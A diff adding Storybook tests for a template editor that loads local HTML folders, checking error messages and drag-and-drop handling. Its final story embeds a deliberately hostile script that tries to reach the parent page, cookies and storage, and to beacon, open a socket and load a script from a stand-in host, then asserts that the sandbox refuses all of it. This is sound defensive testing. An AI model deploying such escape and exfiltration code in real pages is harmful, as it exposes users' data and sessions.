@@ -1,0 +1,169 @@
+import '@mirari/template-editor/styles.css'
+import { TemplateEditor, type TemplateEditorProps } from '@mirari/template-editor'
+import { createToasts, Toaster } from '@mirari/ui'
+import type { Meta, StoryObj } from '@storybook/react-vite'
+import { expect, fireEvent, fn, userEvent, waitFor, type within } from 'storybook/test'
+import { createTestTemplatePort, folderFiles, pond, pondFiles } from './fixtures/template-port.ts'
+
+const toasts = createToasts()
+
+const args: TemplateEditorProps = {
+  port: createTestTemplatePort(),
+  initial: null,
+  onClose: fn(),
+  notify: (kind, text) => toasts[kind](text),
+}
+
+const meta = {
+  title: 'widgets/TemplateEditor/Projects',
+  component: TemplateEditor,
+  parameters: { layout: 'fullscreen' },
+  args,
+  render: (props) => (
+    <>
+      <TemplateEditor {...props} />
+      <Toaster toasts={toasts} />
+    </>
+  ),
+} satisfies Meta<typeof TemplateEditor>
+
+export default meta
+type Story = StoryObj<typeof meta>
+type Canvas = ReturnType<typeof within>
+
+function field(): HTMLInputElement {
+  const input = document.querySelector<HTMLInputElement>('input[webkitdirectory]')
+  if (!input) throw new Error('There is no field for folders.')
+  return input
+}
+
+/** What the browser does when a folder was chosen. */
+function choose(files: File[]): void {
+  const input = field()
+  Object.defineProperty(input, 'files', { value: files, configurable: true })
+  fireEvent.change(input)
+}
+
+const said = (canvas: Canvas, text: string) => waitFor(() => expect(canvas.getAllByText(text)[0]).toBeVisible())
+
+const faults: [Record<string, string | null>, string][] = [
+  [{ 'config.json': null }, 'Missing config.json'],
+  [{ 'config.json': '{"items":' }, 'config.json is not valid JSON'],
+  [{ 'bridging.js': null }, 'Missing bridging.js'],
+  [{ 'index.html': null }, 'Missing index.html'],
+  [{ 'style.css': null }, 'Missing style.css'],
+  [{ 'script.js': null }, 'Missing script.js'],
+  [{ 'style.css': null, 'script.js': null }, 'Missing style.css, script.js'],
+]
+
+export const LocalFolders: Story = {
+  play: async ({ canvas, step }) => {
+    for (const [changes, message] of faults) {
+      await step(message, async () => {
+        choose(folderFiles('pond', await pondFiles(changes)))
+        await said(canvas, message)
+        await expect(canvas.getByText('Add a widget or a local folder.')).toBeVisible()
+      })
+    }
+    await step('a file instead of a folder', async () => {
+      choose([new File(['x'], 'index.html')])
+      await said(canvas, 'Please choose a folder, not a file')
+    })
+    await step('an unreadable folder', async () => {
+      const files = folderFiles('pond', await pondFiles())
+      for (const file of files) file.text = () => Promise.reject(new DOMException('gone', 'NotReadableError'))
+      choose(files)
+      await said(canvas, '加载本地目录失败')
+    })
+    await step('one that has everything is opened', async () => {
+      choose(folderFiles('pond', await pondFiles()))
+      await said(canvas, 'Pond opened')
+      await expect(canvas.getByRole('checkbox', { name: 'Show Pond' })).toBeChecked()
+      await expect(document.querySelector('.mi-te-problem')).toBeNull()
+    })
+    await step('the next one only after a confirmation: this one is not saved', async () => {
+      choose(folderFiles('lake', await pondFiles({ 'config.json': '{"name":"Lake","items":[]}' })))
+      await userEvent.click(await canvas.findByRole('button', { name: 'Keep editing' }))
+      await expect(canvas.getByRole('checkbox', { name: 'Show Pond' })).toBeVisible()
+      choose(folderFiles('lake', await pondFiles({ 'config.json': '{"name":"Lake","items":[]}' })))
+      await userEvent.click(await canvas.findByRole('button', { name: 'Replace' }))
+      await said(canvas, 'Lake opened')
+      await expect(canvas.getByText('Add a widget or a local folder.')).toBeVisible()
+    })
+  },
+}
+
+export const ABrowserWithoutFolders: Story = {
+  play: async ({ canvas }) => {
+    const own = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'webkitdirectory')
+    const picker = Object.getOwnPropertyDescriptor(window, 'showDirectoryPicker')
+    Reflect.deleteProperty(HTMLInputElement.prototype, 'webkitdirectory')
+    Object.defineProperty(window, 'showDirectoryPicker', { value: undefined, configurable: true })
+    await userEvent.click(canvas.getByRole('button', { name: 'Add local HTML' }))
+    if (own) Object.defineProperty(HTMLInputElement.prototype, 'webkitdirectory', own)
+    if (picker) Object.defineProperty(window, 'showDirectoryPicker', picker)
+    await said(canvas, 'Your browser does not support folder selection')
+  },
+}
+
+export const ADroppedFile: Story = {
+  play: async ({ canvas }) => {
+    const transfer = new DataTransfer()
+    transfer.items.add(new File(['x'], 'index.html', { type: 'text/html' }))
+    const editor = canvas.getByRole('main')
+    const drag = (type: string) =>
+      editor.dispatchEvent(new DragEvent(type, { dataTransfer: transfer, bubbles: true, cancelable: true }))
+    drag('dragover')
+    await expect(await canvas.findByText('Drop the folder to open it')).toBeVisible()
+    drag('drop')
+    await said(canvas, 'Please choose a folder, not a file')
+  },
+}
+
+/** Tries whatever a page can to reach the one around it, and tells how that went. */
+const hostile = `
+const attempt = async (work) => { try { return String(await work()) } catch (error) { return 'refused' } }
+const attempts = {
+  document: () => parent.document.title,
+  top: () => { top.location.href = 'https://package.invalid/'; return new Promise((_, no) => setTimeout(no, 300)) },
+  storage: () => localStorage.setItem('a', 'b'),
+  cookie: () => document.cookie.length,
+  session: () => sessionStorage.length,
+  fetch: () => fetch('/media/koi.webp').then(({ status }) => status),
+  beacon: () => new Promise((yes, no) => {
+    addEventListener('securitypolicyviolation', no, { once: true })
+    navigator.sendBeacon('https://package.invalid/', 'x')
+    setTimeout(yes, 1000)
+  }),
+  socket: () => new Promise((yes, no) => { const s = new WebSocket('wss://package.invalid/'); s.onopen = yes; s.onerror = no }),
+  picture: () => new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = no; i.src = '${'/media/koi.webp'}?' + Date.now() }),
+  script: () => new Promise((yes, no) => { const s = document.createElement('script'); s.onload = yes; s.onerror = no; s.src = 'https://package.invalid/x.js'; document.head.append(s) }),
+  popup: () => { if (!window.open('about:blank')) throw 0; return 'opened' },
+  database: () => new Promise((yes, no) => { const r = indexedDB.open('a'); r.onsuccess = yes; r.onerror = no }),
+}
+addEventListener('load', async () => {
+  const answers = {}
+  for (const [name, work] of Object.entries(attempts)) answers[name] = await attempt(work)
+  parent.postMessage({ hostile: answers, origin: self.origin }, '*')
+  parent.postMessage({ mirari: 'template-items', items: [{ id: 'evil' }] }, '*')
+})
+`
+
+export const AHostileBase: Story = {
+  args: { initial: pond, port: createTestTemplatePort({}, () => pondFiles({ 'script.js': hostile })) },
+  play: async ({ canvas }) => {
+    const address = window.location.href
+    const told = await new Promise<{ hostile: Record<string, string>; origin: string }>((resolve) => {
+      window.addEventListener('message', ({ data }) => {
+        if (data?.hostile) resolve(data)
+      })
+    })
+    const { hostile: answers, origin } = told
+    await expect(origin).toBe('null')
+    await expect(answers).toEqual(Object.fromEntries(Object.keys(answers).map((name) => [name, 'refused'])))
+    await expect(Object.keys(answers)).toHaveLength(12)
+    await expect(window.location.href).toBe(address)
+    await expect(localStorage.getItem('a')).toBeNull()
+    await expect(canvas.getAllByRole('checkbox')).toHaveLength(pond.items.length)
+  },
+}
